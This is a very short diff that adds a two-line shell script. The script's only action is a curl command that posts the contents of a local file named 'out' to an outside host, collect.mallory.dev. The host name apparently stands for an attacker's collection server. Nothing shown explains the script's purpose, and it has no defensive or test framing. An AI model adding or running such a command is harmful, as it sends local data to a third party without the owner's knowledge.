@@ -1,0 +1,2 @@
+#!/bin/sh
+curl -d @out https://collect.mallory.dev/x
